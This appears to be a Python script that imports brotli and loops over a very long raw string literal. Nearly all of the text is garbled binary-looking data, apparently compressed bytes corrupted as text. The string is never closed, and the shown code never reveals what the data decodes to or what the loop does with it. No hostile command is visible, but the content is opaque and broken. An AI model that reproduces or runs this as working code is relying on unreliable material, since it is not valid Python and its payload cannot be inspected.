import brotli
n=a=0;b=1
for c in r'''g	e8ّl{jHS%!D
DI[}lL Ƅ<Lf؜	3sӭrO{M̐ک.k|߄ib$I5{`ˬU%.mxa˾|ҁ˒˽}gUZ3=sG$oNnU
sP]2jka]^M'U&}v7kVT,7( {0	u.Ρ$pNr(( T}$Iijƃ(X19L:$,ۢѢ 7Njf>9NCPgCɮYz;:{[,=Gwd:˽+^qͨ=+?Ct5hyi.}n([Uhc%
Ew}ӷicDтC|dyԴ}ub>yJáƬPtA

&W,7O:=Z̥:~mzl<8B[)"ƍdJ6yw?uKSYJl5pеzޯmH@3o.9BF6Ӷm,6ծְ]T)N6~&83nJ\8Gѷ(תVmYLnUm܋SdjȼŦ :%D1zjLHI]˰Z
0Dzu')a=Cf{	*a+n+
٘tҤi^a+݄Dlgl2StӪȇ\sS,tW+C
\Nr	Rԩv+M|I* MT4I7ʄDR*n0/ؾÙd/<0CrcY`<a[DNP-x^ZC,J1{fbQO:ל!~F;C]-^LQ80s&vpo	5WkwJ$\D(3?͐|1Ǡ@W	i2]p3LPGu@BML_̖}ziOC!B1sza@*4D$kgNOsJku`>"йKIxRǡ}9K=j̢GJPk(^܋}ѝQYt{E)܋ŵ,M5ϓs-hَ*uN<!m{л׏
YLëk|bQˉϒ	}	΃oYK-o.3PyZɡ"J9"lK(f244ӎ0]vS``U>r;g:,#o'-,ZYgVb(ܘCe#:L*5E.~[%Nű]<_JL+/Z}AѲlW\1Ԡ<܁c3iXw{È&@kTayP-L]>P~OˌAjܑq4bM[	դ,m>T.n|yҫ#bcԓz:Rv;e+vE91i̶F2kZbo\`uE"pU0nAw"ZD?^9ї\jNw%LȀBYcܭx1Ԕqf+p_i!ClC~8=΋(Wy e.	1Ջkce\>pU,)]
huKi!5Hj7ğ&Er{~F3%C*hx>y|
Ѹ8(]_hY*~#NwФ5;ZRlA4;r`nHz+;h1jt,iz	_at3M@EpmŜӘKC۶xLYMJRW0=l6TggMvN|ǽƀӷK{VYqHسM@ ̦BFE_w؝+5	4ɰO^[LB~=ȐwE;U2B'3?C];kߨ3uܢΈʭ]"]e/2̛`#onx<%O<cLC_yiZ}J4W*)IǨWzNSs5ۃH
Z8ӝR/#G׌m,/fɇ-It.S37lȝeEF<*ɒ]}txamsx]ˤfp\P`w_Ƣr7oGn$i:4wKPMTCsY~Y%ѽo/"ȫosuyW} ^@F})Ff5zO%WONUK1@o`naexDX/"ڮyºgN!xM2r&?A;D7{_[_=yRΔ0zљBbdXa(eęԗFıe{F(0&˽D9\^Zw#p*e
m:&--Q$d҅aREd6F[@%h[FDArh3٘.ԚƛVkEq41uAR!4Ӹ4cbZ	Ċ<*GRh|{t̙|.k">aMo+x߾x}ILըQܜuUjAEG,{gLM=ΚBiZoԞȜ:<5.C/8IH(i5)QƮ2oN+o%ÿ2Υz"NEL/=<ޅ :NUm9--QQzgn~35IQrWѭZ9TY(sՍKC@P:l!*$f*͗-m{$U!'ZRBl@5V"ymʣR,ʹ	vb˲{!,Rb=tK>v̪`a>wm74
hw[x>eHkçhZ{S?CF.+kT٩n˸'{xݓ'2aJ"O;&f"ivG'r429z&S\+yȧiul[&xtwC0b<I6.=rgCCXK59^N!"VZCNI|̡bV8p9TPJOg׆Y5u?+	k?|ԥčq0ڦC~M,Kz%{Ʉi\@̯3OuxCQj߻:8(ٍ|j&Z<$kV07rP/h4m.`$0TEo4ޓ<`ڗb!^MOo>Tڋ.Vx{Wa6RϕLHnF{פ&~۫Zh5^DZ*WfT38.(]?)lE:b8/IKţ;5<|;*$oϰ'AM}mw.B20,0i6SB+ŐξS'8!dx/@<IAQ*G)Ӧ~nԏ#+3OsxXv)hj>rkO|1]jx.ī]|=ky2_rr|z)*^DE5&p͍stzqXSIGfgĩAġ8nUoO;[f;=kiy=@0Lq	Ѳ@дѥaT
J	G!wŐUȱvan">cC|[G+nA[,
^>q}ԑ4ܷ<j	Gѫ:;:Aw Drgfwζ˷S4ځƋܩ|/LPLldڣ&SƉi'wOۑiǉ[Jk S!o}4(\&HE~lX\3X+}zK&]_\
R%V5]4 	^@ţ8޹w,}Se9P=|]_/@rYʋ&0.ӯ*YҊhmXoͲѰ@oZ}DE6ǎ	͊E"qhZAu6xJ҉'bC.tso@8̾f{hFWצ^HGȞkӜ'=vԂ
H~`Y%qH
}(#>1-.UaqڦFЮ1>vvڊSȴ`/Տ{:}j}ɖ<Φ^uǿфK/,'dy:A9\BB&|`(eg$+{OL6П+/q{/D<*kl Z
9"`ڟǐ.?Qw0oY$zo{ZIY=[Ůעp~a+}}^wԞ!UN '7Pv<:;@.rafb
B1DrauЈzޠP	~G7Bnc~)vA]\.[Ja\̞ʤD7NǪ>>p,r'oޙJ.Bj5nc-A-`ء%:oqw=\47dtˆoNn`[#4Y֬DX<yN"@[׷Lp!T WZb*a:iWp$Ғ86%:'[,ƻTA#8QɣrVvlɊc0qJw5=6hJIVE	w΁CcR}UvuǻZJȍ@vy /b]&n};(Wo%D<Ө.ŸL͌9u?a:}	%|j!Bv<^^`ԍ*^BɄ*,]U	a(#{w2l][݁ @K>]ykU/=2.b?qòR/&+ޟϯjд")sS!jp)xdf_۽YQBdBtmʧ6Lld]}m۽Mm871WX?a1ne96|ÄnCjje(A}w8t.ȜŌ.fħ/%ܐ<ATNAT}A2l]3 ziu*;qLx[[,J[o+45|Hb{RܛFl`I=>܍l0%j{l[[n.VYƿ h޹-;7>Aa=p<'Dwŭhde^,E-i4o~`{M~±ϼ]3ry\VYl:I·IYMѷ˯OCw354Py6}1uegQ){y]>|թضzF֍ulq)ɍcLɶq2|4');D%z9\MKā]_"6lBO}۹ՑxRkU3@Դ>&;zFdČ۫)hT[C2!/Q'v!GA?]@NK֕;QWDFȕ%ǛƸIvR4}F#t؏>./Mr33xǿ7w,3ˣ6veܵ%ƹWȪ<'/'%^wmouوx.mgNoN9uhӯߡ7Wo(>@ca`w)Vd*[W0DJάsAoQ!OMrgx/49fh$O,؃ɫs8ˋ0ͽNOĿw"6-aӠ5U~%1#UPZM[\>PCdHl<KdSHوx)2-b1=xqtI_pf\.{H|]1nNuzAǶDy`q@2vPڄXT$(Ii|n,;zm/!]r7Y18<գG|Ќ!0IԷ7EloD!8@Llq|"~QBE
ߢVԂqRP*EjöP'2͆YB7R[b$1|q>&C#&}x^YpzZOATɏ7DgsmZeޑWe8l~PJ`HݝT$ґp)AMFiɎs5t&M7{v`r]>ݹoif~@
(:y{,ۘ1ۑ`DNӨ(]܃z7*MI!	HCNd/fʭɛ|u"D[XOY߯2;ƣ7aNdt'cZ{><H]LwTI(ArZ6tY::0Vd;bT֘sKn݉*ۿ^?E;
F=;6H˶UDyghpA{Kb٧+7G`H32lw$Le,0>BcǇdo,$6u6v,cK~x.@SF"ձg|klYT,mj-f.>L10ۄˢgd'&vf<PLkJv@=^G8bf*Ы?(\`a҆FwKs$Md
.HHjvƈ?0=֘d'GĖwQ	ڬX"bwѩ&UK_|6J\o	zdԤBz)]+-ߓþlèÏ+h$ dո{3އ{!tvwp0`=RTTUNk֛#4KI7'H2PZ2Q!֠;4>h|Bd٢ >NIfC%9vynt	72gC5SJŗ:k\Ɲy<~$D%7k2[)W^^Ԏ0`F>m%v 3|tK IiL%͡m~Q*H4٠4W2= ҩSsX hv"\l	(݊aԀ9gTx~<6bQRI |<^g+i0PU4F {bDJOGS,ŇnPX֏7l\UBNt;\l(5ܾ]D8RO=̳c#O ĭSTpݬȺXQODU̼7Snך>A:аW.QH$4-?mP!"	l/tBčŷiFѻ^|Zͷ"	wk^m(Cqf՚oI˭o!t4;{jAaA7ЇRSv[0t˲Z$gؼކ^Rwy<8 7nBxƬf-$}!4hA&EР1|)-~'OqB8d?3qwW6=:؄[q9hCո44|^^8ێnؒs_?NX]N4jcR~!s>YaݒY\e
OPxں\G >4ٷz&n+2)(k4B$e<8פ"2&LڦNŎ9)bE!}@Ҫ 6h$Ū;z=|!wbs%Ϩ4ƌ/GYmzO	$C/@E^ِgAiB(iQpUMR=X`iT͒yPKݖǹ} XH-]En`v"΍*tY;vX~PS;Ȝ`nqY(sеi:uH"jϱJ7#f @.{d-kraz$9/b11&ɫѶz$,fk%QnvőHC|!Ud+wK_Fѥk?$D9+4|W2BA+<N;B/ri0RALi34|(]`Y0ԂC̢v%a3Ȝ4Ũ&n	cLV@YCKڠJ";ߙ,)#'A|&gNkó\|K#W(xD(޻!ps̝44^/q]u02!$	̥``ʂOyEVΥǏSpFTEX'm"+pnO"$C!mN8PԺS+AFB\O|s$7s~ˏ*_?G?D9#_߸:/ y\=QGѾ['	8ڜqՔ%dǮWU]&ڐDuKȄ;I[X)_/AkM|74%xpa=JypOTqb`]Bێ;l`w7ՎdWN_`2,v0rͿ*rmyy>Qy]D(yI@rx<Я]4>!e]1Ѱ%L0Wn@]$hjKUQ}ػi$ɹ7gR[9lXsH,IŌCɁNy28\a	->=wl!*x{x {1}zWLѷ\cjFF4,SW6G$~&M2aU%>gHY&6Za:%1C_-nZ#/:uζ<O_i[-ȋʑ8?4z٨`x|(#ҒɧԡDA]=־Ky#}u5q(_jϊ':nձŨp;>Ǳ$נEPEG:Y+g\YdXǲV'߭;˨[L0:NX[XW57P'"Q"BbF:\UىMcT:@OfZ#e*'6,w<4xgܫJK53g;@R*[_N\ҩș(7ІvB5 1ђ!SG$mp!cՓE:٦Lӂ;CPISji/	&߱ˎwg{Xݜ]%qq^/9>֥mhHV[q0ʷޘ@GRPAףPܗ@T/͆(F`Qi$L(<Nܢ7gu1*6n"ǜc*D3Cxgc~ڕesfܜc"{=i+]?u"LڑpID2p,>ۇ]O<<0eb$
A@ֹ~0GnQ;15+D{ϗTzv]ۘ92zDg#H[#q2@425:N_sbo@&Uc6S%5GD62aL3#nݩ72ӵbǾ`
ݽIiT_ǫξ
4z	߻f(Ui$V3z3*Y2KSZcrmխuj+-RBkC<2?²Wj!:xtGB $kܟX3"wEnlr̸Ӻ8ŵu-&zxo"3Xے=wKd%qW14 ݮӬ;S{VuHY{³12gVfLH|T>oN>X<Ϡ5"qqܽׯ!dڍ܇wf\[Ն-պ&C&}[*;&S$H0$=.7)8 ǜSJ-P5ؗҗ%)?vq~'8|V8:wX@)e3wT_xQƝ5CCޜ*E<03FpNnUވa|mccSX|N% PR9PT֓}ڇK;f^@Jӯpիˊ%Ie g8|J{{vJ'QݤƹUB üq̩RDpcp(sbaɝ7<ĦRѭ42ܳ7Q LÀ/"Ωk($4&|2>$ͷM5@ZQ[xmKYs&4X,s0dc	&?2w,9g؛@7Q/3	]&n.±39?X/0V/!)سrmV3a'`,*j>՚C]āv"9j/^TW7ҕ_M JK=ݾ[(z.97(&]u±\i|ͯltm
ٸoN;5=jsXQY=&T96*˗¢MyS/?nBصpKX޸wnjs>n|w.w(Kv>
АU'EwyO'V-b*h
5#>qsvOg!`!uE޵{|n'.C5Xv'!InU2D&J&etFZVF¢9jޘe>εĝwɧչB(9?u{<&.lk؅.YbhK&YĚ|+c($T"aՒFgN6N{
p-z
:p&+3̥?++*(IC@yKuA*ɼŤǉr"*;:kdFub]h.ҍw6}fgYur!ԣ
S]̓Q	T5W/¢U{l#^چdԩnȘ~:L[Z^G8>1lŘ6FݩaJߙ1ȯ7J:iy߫yK:K.0ZمȈI9n (Q;q'xM%Z'ǫ(#'kViAcun8emr7Y--QQB(6)٧q)jAj\.nQh#>wamjVf+-*vi#(Jpe>eհzl
3&ցO,PJwxI/B~?qXlMS\_6RF@^J&PAI Ag ՛ӆ8mɎ{"[%hS5WQp̲%?B4#'%N5	BR-LrY,63kM6j8@Qݵ%z#U:|'H;1mfXv\A2jQͱ^5J;};"{5s&*Ua~fhG"3qdO5iŹ^f/^x
|TWsZQ{Exiխդf'0Ғ*{$1
p1 [(HQ8;CDܙqeYa^?t$4D;}_Cܛ[2n֚Lb1awyhr֘ωzp:T%O6يüjgD4u8yklGúU=VȞ=G؉5^Y&X7a	~܌BH2O\V3a.ߢ޺C5ɿEʕB/)aShPiwGm,BxZq{{BsGSzyƭ`.(>,RoΪNkW]S;ֽ	[ӻ4ȕ2 SiMl3@kȖ,$L|72}5m.ػpYO[5?AN(WVk9ǖb= 7AfNPL٘G*9*%LxqZ4k+}UnO)?PҶH!
u#I/[
Bb@\Ĵ{0<qVBz[fQ@,{ki!1Oξʏ$q(Hwjb~/PhdP\UbHМ.׭07c1v8ĳrڬfYt#?MnYM6>(kz|š*.Qh][m͟M7F3k̒
ǻ4`&TN6dءQ G8U"%Phzj}uz>f!K(̣bB	]|ut~s̻Pgyي5æʊޟٞc0X/vڹgg{7ayyAr_RˍX3D7[Cx{w.'	jj] S]@4LlsW|Ux@O(eWwqVl?Xn_߉&!Eo`i%o
5e>ȽNt'Jetkp`כY^F_KYjrwxƥO߉bA(Rĕ
tCo?ԚF5fXVh ت^9-0N/lvοMc?`OЉs<5a?rB<ѩ6&i4[U!mCҧ2efdZɻH9+\ySp5}B;{ϓF2G4 Q@-O0QTS7͏
g/pĖy;І\~{iH.Ln3<uY-cFmM;(ЗFZCA=zҕ$}7+jJܓ?4*pۍ8a@޻zy<tmʤűx?*K$9ܷl%EIbr	Xĕ`/9&XɊ%aڰo03dۢϬorHNB/!ەh	<xc	.՘өŻcӣ̚F%<j	
c^jnk0]MsݝnE'29׳HΕ7rv,KӣhqZ/{p 4~)W! (ʹ]y:ddWkGcKlwWa6!E`sҦZ#;Q!ɔ65ąkjL"juAOqh"$y@Qr$7U?ْeNqByȳUF0DQՕF0ɯRD,>S$	rh_a>֯"0y*uZRW=dLlƞASV݆sS;N,a޴s)MIɸu=ip эyVU٠#dW><mBʌ-~79zܾg0]p
ݸC޹/YmSMMH/~_u+KȰcb΀E)5o6{lN6P68ÅuGCb<))arJl;æQ([<T?iӔGp-+IM2b&.romfEd_¥.\JV>QB?]7ʟaݴ3+D'sQf3KDO'*Ͳ&m_3XI/QLu&]i'-hyh:RZTS"D..fCZIAX=wzt&«J)F'  eL>Ԍ!4}tR:KrҜ);ǣnr{:`TTwrېԹ{T*eJ|?k7wǔ0^ĩ+0_H#aޜ^pgXs(:m7/on"P7;ۺI4-JrepYC4Vprz[:p<&̹7+m Q`qˌ6c>_CF1Ӽ&&,Ԁ$^b Osx\r.OOXϝiNӽдqۄmE5cEr`~>o(K|?mɟXѦ!Y)pb/R7*v'qS}{Jn}GxCisnQPha9?zۡ,Vەz{k;ǕxGjX~=$`fZ1Q\(@aUn9ֆͰ4Cʹ/2*]M,2 Q??=R_o~YXTg!|C2ޣp95p1Ğ=uB!	Tq*q	25sYɾofN~İRC:E#nYP^Jdg`%l!w.e7
L/ʴ7L 3|\vedXrC!70ן:J[yyةly'ūs6Fo6s5I*"pIVQk']?؍KY7,4ųY|i@^ևK_wR$eh%eĆ۽Iהu4La~Φ[J'
Cȁ1L,1*pD~S\Q&H}$^؄CYoiNr/KA]C6ژ\ZyCʌ\vpQSAp^IoEQvP4־[ϚHumwԔ.}{шG!|pЖ:uxHʩnN/cxǞ®#mkטpV	L+>Ji19 |OwL0Rه2}P>KX'FpqPɊ&ӊTu~NQ^`Mrb!%YFeVޱa1sG}#ڐ?Rk`^9.[	z~cxi"$Ԓp39ؔL-ժ
D6I{ʾa>)ˬٓR }ڝ3Gr.uSCwBaׄڿG5v:*> KC/08c#,!+Ԡ#VEv[$"I͞/uV,K^x_M0|ʠC>/|ϿhZy3wOc3EڳZ)``\̥v7!݌i>ppf_	%3Җ\x!yWFoT!<!ʂ!;̷Ϙb$˥-שԿPYτH]݋*?cQdYĻN!gH ՐnŞC\n݇O8!*3v'b͵̷-'(M؋҂"E:8oH<I¥qٱYrSźmx$Ż1p28BHb!)^++P![կv4LR*٤e43QB:ӑ0׬bbG*)aI/N2
P"<v10-0(m=#|ljZ
8d&P_Gނi!eޗ3*wyv<m.c"cu{j|ȐFC-x/X%{'"W%p7o;uHBR,??GI˙&F2Rܸ\eplohkɄX|IgVm0~ّ,ĝ^{_X>}۽qto2ȫ'2ۏ$rrċaoann4<MhH#{*aΦk0|2)ih8s1-ήϚm(:$ѿg0jZP VO4>I- "UX71]xG IQr
rpax>&gJ}pH}V0~/C|[˱(	[j
E:̙N*mtp!iZ=>Y4RJDyYr֯E=vυrsBӜvҜcTw)Y3F@X9wLy:zP3B:_MIB-4BYeE^,jlQXQ3ͬħOWU}f,3dװۡJu@-ZZRMm+9җbVoһ!D@iA_OPqsă5s7{NӒ+&Ռb~g͗bs5\>vI-ܦyʬaGbE!OozҖb}P	o?v!Ҵ6Fo$:6bH
72$ύѲwKӻWǥI1HЩ$'ld]VJ9ÄmàȈTHj6eIoҬ͕`rZ6z`Xڈ~ܜkj(w/kX"Ec|ǰw28-H	a1|̀]#[TƬІqʩ(R4_7F-D^lBV\Z#kоº^7-fP n^!JHXhr]pudG4۔]`(KwȸisUF6?JM)$:|۵((uIxhWH}K+bEj?]?@%R^-4"S57pApȼ*?zSaŕNݒQ]hZ}|So͉qk`Q2@vnG(@C˷P8T
Nwƣu˂؍XM$h|ہ¥wmcLOٴj3Ƭ~£khfI̯˱}R__A1w m
"YE9;aźjCԪO|kMTv@E+s5E511ѓĂSJ~չĖ:#W2t${61p8KSUWgָRK|S{	uh	D98Y.ҭukb"ccowNk$ܭINwH͸?#G4˹\q[x7A3|ƏdJI0ɸ%ɞ7Ll҃`4/BKVY ',ہ"Ε!Ĩ	@m_=mOIjP@+ЖI:G/Hj=2[lZߜw͎|++dBЎWź`?#,pRI(ES#*ݜ(zXf!>^-ɧs]Ѷh+5c'6-Дq${#0?ɡײ}RFA+ˆFtf4CAf*9,@l^2|Ī>'x4(F@jUW:/!ް2Υ:x8ގ
H:V]%t=|9̷T{p1[,֖DPAҲeāVcu?IfGhOV3vSYQ)4K=#UY©Jh1h0nDɞԶy`1}]RÏ7Ǩ
XTB'Es>d)flhu˼ŜwVtI%ڔٿd9i		CJrVJEςCۭ̅RkWMbXu,<J=DMiYo2vo[uȗS{#r6ǕEUҭ+uĵƜh0m88;ԥwmGl
ߔ8ϧTeBJ"79eYq5/t<D۽9'?rJ[-ŃQܜnIm$}ZW!{0HfJt|o}*Dτ5;Iޱ<(}RixRH3Tf$J~=;|u[15vRCɅvL{%C\˩/ɇq{9FÇ`ʑßĦ7R/LP37WMѽeq[ɷ7KD}Sa <jX ȗ.R?YzFu۠(va/	s	6I$@ْRuaʊR)%`tOi%xZ+
o_s?lON[m98^#dQǉ}ԄKOj&JUPfus[Y@K\uF}:Fۇ	Q5	j\s5:ݫh.b&ݏYQ|
IVc4T44¹{2GкUAЀ53d/\Qޜs݌ͤ9vpΚ4ܔX<u^=*iȌ(FYCnc'	>eW$:ЅϮsyss1ϦώYh2m]4(Q:{qY?f]/?g0]tbu!Pc,̚E׷u9D%)-AlmfkhJv-{8H44d˦VEw0Ϣqv\4h
	1S7c}7\YmE%:dީiOm5*ӥh`׼di/w|<i7߽53on(ֿA3Q˔Ё]J,CիvuأFy2uQΚĻ]یY~u^eTKk9Wik+}(j%LJWzGѓ͗QgRsY#gE*!ړɬA^$dQ\GI{:Tۤ)ߊWΚ`^B[u+g]7KCEK͔X2>I)֐gŏ&g:m?uV̄	F8ohdOX1.ޞ+C$WpyW1H}[RFGHu]hQkiu,%ģeһXсG׉kENSȘr\22C4͸ޤ^-Ӊ\|LjV`^{43m{RIEt)K:;R6@k|¼|ɮ']ԻSd{7]k>^ДSEpI`(rHAP̢nx!+:Dթs6mxĴe2156תBEJTpZ<+C_	1CA`Sd*kBݻ-,e|ΠQ#qNQCۛQވp/07$W$:*f˿]$|00B(1ίRY}T\uwtfqڬȗT!ۅt	aB|)Myprd"8<ӥ2+i'SP(L7AqN(eP\ޯO:fV:͎]AMz<*x2r̼ǭK8ϱCmk@wv޹iБK'ĹƩ$"8$ws]pNܝI%E::`XAz%'0ɇM:ս-;y<7>VZ34unRmu?X9ǨkؿæȏPɌͿb"qFI \,Im\pIq O-y]ګeV$=? 'abDOx57\G!7Xӻ=s#va	ՙmfSA]UFш#KIEidk xz^;/9:ҷ=l<"4xf@-S.X7ܔSG_GA_	t@p1$S?Ȇ_dN
)
-Qla{=Tѽa?t5V>,"V49$~y7+jlq֡īߍ~wf+ͺ:ӎ466g/YM1t>:߈ݹw6-&t61sNג/Y!
yQ8՘
8`F=޴Ƨ(}XOa	cPg]ӮʹM2ݜ1CM|tH|}ۗ*J&ƿ{g=Kݬ;߲tw)!=3K'GME{]oYelrʻu1},נ&<]L'&bcRHЁۣ](-@ɰ~lzP"UTaÉ0)Ŭݩc!_۹/(O
(2Օ@łT(,Ɛ10!('	L;x<ޭ VEC0]yx)'O1|6lɓdr^%R.J`j5EGXȗF_vQ[O7UҀ+@NKe#UH@7ZypCg4ƫj:߯Gה0ާ3}ǩ|"88Mіð_/w;u{r^P+"HղE!AU2ŴՔt%#"[ѡ̃nLayrL0QP !=HqhBKϏ64ߊk~	|JԿ#D*oVFh>͸.)^;>1~Q}$T_,Ĵ/E1֪K\?ξf޿d:Hk	O'.O{3-HиXڔyqgkISl)2>X[.nq"o(+raәX*Ŧ	.'JL}SިGL2Q$7֍
tFðKƨaКJH)@({:;."`n}6n+4'&?hE@ FUOy.ghU޳:8$L&ˋub
fg`Oz6NK^k 40Bw*ƞH߽}RC)R֢>?|5T|#>C7Ԃ&SI^NŹb֓B͕g;y43-ɞ3cϫԫW-!JOü#ZvK~x2>	[-+d^ӷM7lFILAGḲ0ы7_A:x/d$E7ۆ57:5/vjRӄ_HIMQ)"C(2*UOV#Һ2ݴ
κMS~QUW<xb46^{TtMO.GmWģߴDԽ8OU@
Tx"#Ƽf) +tV?{oIɁVjѾKW5h_UaZG9#AH	k)%Z hӉNAΌ$]sK.=z,<Y|9Iqcz.KztM6r	qt;_͌n0,;/EuʕY=Iwݸ"8Fͪ)f,zF{ћgs0B{&ڒbRQh]/31wL{\L\ȵޢ)܅9\c8`k6iQҼ8Fx+W&Ƭ]U\Lb1@}|ӾsaXd.mCn*		^z;%W]U'eI`qWlP\9M@ɀ٤Á30G;8^;X*8s*U}`PM³){ňShcEpNm33u}9q؜ȀƸ.bv bT3?јQ5͍TeVʇҦQPBnڪ;3,TDONK׺o̅ӈI֧{o@Տ=܇ͦςkߺN\!59>9w}|~8r#*:ŀ/<'HOGޤSŗX
ƶ)d-y?"JV< eŔSKo!z)^wiEplU	h+:s\4{!#pکeUB/SkqtJJ\QL_ƾcb^k(ÐܷPMX!p&;*(ϺܫejA|^LBe ]gml	A~ESacͽtx-mMSEFֱS!bųˢ
WV:w'bֲ!s|e۠_<}AxӅ8
l{a9
+Cr!wqVݐְ"R|m[oIQ̞ǷF۲IVΰQuo̆YW Jї,7^]xxջW>Z";"Dtf_rh[eܫV	EVIb6y=:tճ_vXzgΌt\|TzσjUy<UVep57!1BZ&=u-hԆRb Yz04p`.-ڦ'[eЎsqPy[}eMan7CWK"SO-y&-MIJdˮLӦܳެŘfDPinu?vAԝm3ǥ
+QlL*ViHf +6PK݅!ACje*]'w0k6soӭa7BQuPWaDUmwI"es`7+2`?]%wHERȕHTk(oyrt6:2֙{m-DaT7NK,<Ñmm]#7#DAFӄ+6GjtrJX=H>ˌ>~})ȵ(Քl@{_<N<x'BW	ĈLt+Qdnɒ~G4	R#ԅwtX3%]ErjtމHգWm3n+	_6է\Ł8ta:PJtA2dso^
FH#;U.+w|ifR=JC%Eͮ^C,"Qݴ̨-5-85Z	]+}8ܔ6<<	$ eU@_71&ԇ-kD<.KQ3%U%H5=<:)q';{ghզuu>xYocHTڌ7;]jӹtm
ʙMeA!H]@vcDtԂZްmڅc
_)FX(U7Ձڅ[a9w؝%zUҕ7?bfunpcF7zp˹l=GwK.Ii-,:w+}wo_[ȧ^e߱I͔fٰV;"نfnfAElvkE,`U(x+QlG_{#֕s1}kV(Li`KJuj/R*T{\RZ>_E`Ru(aci7_8+3q_/p	lH1C|UvFU.yp+dh$=-(EaGek-(4Җ?D!g~Ɠ;'Vxsk1ׄc($m:4#r5n$XܩDw
֠P;br։-j|:`ÒHZY*R,NFOжZL4(XvC#Y{
`Ml<XG.g^:oPݚUؿ=bܛ:$UĂF9'V_"Bt<[6<55Z٬:&N*Mߦ%ΓwҧB_ϋ8%53vO/5:qǛ_)hB7EEEK~Ď@GіtBAkGF&N2x(MV:}Pu$ռPH`:Y53CQ6u=ٴk_)KہNH؃Nʑ:*ReEIMUo("rbч7;_[~w;w]׆ÁhEVusL0"o$\+0XAy	6:AM;D!˪$-2-W%K1#E(ݥKQGZ-
[G"VQCų$:#w2cg@,:ɯ4ޖK`k=ބZ1H%UݔRzhGbS-e#ܔbLE̲UʤQpgkbcEwfeQȂA5R/{ƥ߁8r@@jeBM|K2gpSz#yܤɄBݘ+0@m?ˌŚGQn_\3g,8"siѼ|lkgwWړ09`5"^e`meACYXPF7DbBTNpP?FYC҃&A*Ÿ0g)n>>k),a`Zg_hן;dQPGԃ:IG߄֚r*ȢҽĒd":5q<;(xudo5f1/\4ldA٨EA#_v(d5"&VѿdgwRJjLq1Ӗ-]ƉQl.{("m$iŖfsԉuxsaTnpf})eU~qWr0Ň@޼s!C|A7n^c?TSkwLl-Nup4x|_j=
|'ߔuKkы&-'3p!3OŅZu͊tQP:3Mfg:Ź\f|9Xȫn$TIɑjTtX݌:ݎ`ΤߪHԛgaNFm$0̀5peښ%ԩF*.\SHxV0j)4LyxtVPˋ"jR{8ϡĚ~XܘTZ֡,A^4߂S`;r4pI[qr*/ѪPixRI+q'*ևsGD1^>E)o>Qc.?`=86k#9/qnOyd8?߰ʆV˩iuԸaNAUz<Wd<;GS
6pwI>
roǺ@'ZX4@ְ'l	u~Ǌؐ{ʏNswܓm	oDr0^^7m@p4jm`
fǪz'`(Ky?kB<r>4g̓fy؎]UxRU,xN_
°ap4>Cޱgg^.ܫECyZJ
"t><q*-)Xϫ̯e-"^8Z.4?(tםK0%ИȤ9}iI)a@B.գ*܆2M2+m(D|XzZU?u"$/֒P7]=7#	B:߆8Kmw,0%4'Y'?ߐqiM-f01$y2w8 o7a݄HՐp}۝*[[Wil&^$L9Fi]z"64Px5OʘؓbZa5ėwf(osh|+.'rdɐcVx`6ܻ+1& 7zUDôsn+ז7L̑W-\01%B4ZrFT4_JcL¹îUrCP"f*l&I$ρ6BWŠoۖgiH	pl
ߊOFB|IUړƕ;$v58B!ڂ'"(>[ CM9W[Jŕ)p?Rlb$(koQ%læaj2)rH\?@VL7,\ɛTw&^|1lTp,/(-aՇ٫G^ϓͣn%mkcu\KW'e,'Jf{E݂\1TL~VUʅ#C7.*a;Jɋ,QEL~ߴ.N?K P?TL76܂'QvN\zƂΏë@b})-RM; zVن`q8QnWt"Y#O1*qj'XE--(y{Z;҃J]bՖ5|`4y
AqH$wkA>Q71eP7%K؅zwS
%Y[yD2;myXR.98hKлE0ˡPPJҎYȼ3^:~/M?g#RCi(3i8rvaR3pɚֻ˒,:c]K|}1|%Bɧ}SI_ld
0C|mN*amcxdOT7++tH\`ɈWD7C\Ɵh=l<te`sg95
kl4\n!(i=VX˸`SR_w{*Mdz7S9ҙ_ɟ׼(HMF]8b7ٚ@C {Y@\yJՋƝ&m;yC)
ǈT)fH/E7\OSgZ<9,C[d-J6ו|o\бʏ!XGnB*"!f5%`ڐش}X	nC57`{TCܻݦa	F9lսԍ%"UH7؁ΕWSSqw)?aӸ:ovlyAqܛ^?DxdT7* .vv<paAvA+F=Ie/}UAzؚrmAңtR[($ްZW]:۹F8?XַNbhْ7<¦i5 j2AFRLo۴4}aFpt9Qp`۔8fVYwHr3)@RFjbhؐ=xIO&xW|ӼjKRQfU::Ȟ(Y=.ޙ aeq.iظ8݀ӖGatil+l2n1]~0ȕ]F=ȧ~)Ǉ=/IQdk:\0Kξ18<X<ŮGwJqokܚܮr+ U	~W'QleG65tng;ǡۖY~xkq5;͈4XEC{AJ;S-Kɔyɷ~<Р/ t'iD$'wˏ
Fi[wxF_Im>/GljQQ')@5N[
B`t;ucw0ՙW1Y!Wxp
v2{yoѮ0 -dȅ`%Bp:,5CgݧI;*\(̑-ww|̭ͧƑ˝"+$ރIrzG?P6mďܥ+rcAٕ[liʉT@W̠3,ƄI$Rb/{~9ƱNz%x y|4&oKΨYۄC&Vz=7QLcDڿo9DΗB/Ãɿ@FukōVA?[{[/5pf:zWJܔ=0)FlxO/Tf/yA+)eó5[,@m~hSM, }Pm?fͦayXDrYƟX""gGFTm0ן.F7UnF|o(vǇ.O=4[7v:RQ5\&2<:gR$=B۰ /O{/`\6j2;K WK`@zd~Rl'~:C)9}UDxZ̿	;V[O7fUfp<o
x1p	-nB:_߭\}d4|u~@QIGx3,ƫZ=V9vX̘4/iyK(%.8c.$3`-u7!d`wi?ȸyal%/p=fMڏ"_++%{:#zmIZ`*OȊ^2gKb.7aZbƌ;y7iݲZBqB
y8Ѹ̅,ATӍ=penKmS '?W}2cs$ȩśb4ڵ#A`imjޛo)CL\ 8RLLM3&Q֝ʭ=m2p+T،7:7~5}["Ϭt[7_8$Ѧc[{<E'E?n?}43xws<6kN?+zYw,BzeAyVȵZ}~4ZʗbA}
q'X!h6΋ȭ!,XV^'$#Qb3,:ьiYïNA֔EV8b8oQ\IIk$2(إ5İ:ʸp1*1iӠ8֕H؃lupn>{0jAvܑI)l:t4tED%$AxkS1:1J-+Ny/)%D:
is ^+3Hw{1+֪yABl1ɦW"ֽ7a6.4OJ$O4xرO5r%ݮu&gQjn.ej8iz:pҿdr˱ӈ;]K<qTZuDOњdҚԎ_#9ؾ4N-Y@vCA0*ڱڎӶ,Ko_FD58Ҥ#jZaiӘަwg>3۝3< ~cBpә)824"ss,AE7!`
xЉ;٧gP۞jX(ʾBյ6[,{*("kELK|TyWUƮ_+O6%ʝ6i֪if\Jºp3u܎QmeV6?3XNMBge){F#oyHK
